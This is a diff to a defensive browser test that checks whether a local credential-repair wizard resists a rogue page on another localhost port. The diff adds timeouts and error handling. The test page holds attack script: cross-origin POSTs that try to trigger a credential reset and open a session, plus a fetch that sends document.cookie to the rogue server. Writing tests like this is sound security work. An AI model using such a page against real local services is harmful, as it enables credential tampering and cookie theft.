@@ -33,10 +33,11 @@ async function rogueService(wizardPort: number): Promise<{ url: string; seen: Se
   const seen: Seen[] = [];
   const page = `<!doctype html><title>rogue</title><script>
     const target = 'http://127.0.0.1:${wizardPort}';
+    const limit = () => AbortSignal.timeout(5000);
     window.done = Promise.all([
-      fetch(target + '/api/fix:start', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '["reset-credentials"]' }).then((r) => r.status, (e) => 'blocked ' + e.name),
-      fetch(target + '/session', { method: 'POST', credentials: 'include', body: '{}' }).then((r) => r.status, (e) => 'blocked ' + e.name),
-      fetch('/report?c=' + encodeURIComponent(document.cookie)).then(() => 'reported'),
+      fetch(target + '/api/fix:start', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '["reset-credentials"]', signal: limit() }).then((r) => r.status, (e) => 'blocked ' + e.name),
+      fetch(target + '/session', { method: 'POST', credentials: 'include', body: '{}', signal: limit() }).then((r) => r.status, (e) => 'blocked ' + e.name),
+      fetch('/report?c=' + encodeURIComponent(document.cookie), { signal: limit() }).then(() => 'reported', (e) => 'not reported ' + e.name),
     ]);
   </script>`;
   const server = http.createServer((req, res) => {
@@ -61,21 +62,22 @@ describe('a rogue service on another 127.0.0.1 port, with the wizard open in the
     await world.close();
   });
 
-  test('gets no cookie and nothing it can use; the login file stays', { timeout: 90_000 }, async () => {
+  test('gets no cookie and nothing it can use; the login file stays', { timeout: 150_000 }, async () => {
     const login = await readFile(world.credentialsPath);
     const browser = await launchBrowser();
     const rogue = await rogueService(wizard.host.port);
     try {
       const page = await browser.context.newPage();
-      await page.goto(wizard.host.url);
-      await page.waitForSelector('.problem-list', { timeout: 30_000 });
+      await page.goto(wizard.host.url, { timeout: 30_000 });
+      // The page is up and has its session once the first report arrives (the checks run for real).
+      await page.waitForSelector('.problem-list', { timeout: 90_000 });
       assert.equal(new URL(page.url()).search, '', 'the one-time code is dropped from the address bar');
       const session = await page.evaluate(() => sessionStorage.getItem('claude-auth-doctor.session'));
       assert.match(session ?? '', /^[A-Za-z0-9_-]{43}$/, 'the page holds a session token');
       assert.deepEqual(await browser.context.cookies(), [], 'the wizard set no cookie at all');
 
       const evil = await browser.context.newPage();
-      await evil.goto(rogue.url);
+      await evil.goto(rogue.url, { timeout: 30_000 });
       const results = (await evil.evaluate('window.done')) as unknown[];
       assert.match(String(results[0]), /^blocked|^40[13]$/, `the API from the rogue origin: ${results[0]}`);
       assert.match(String(results[1]), /^blocked|^40[13]$/, `a session from the rogue origin: ${results[1]}`);
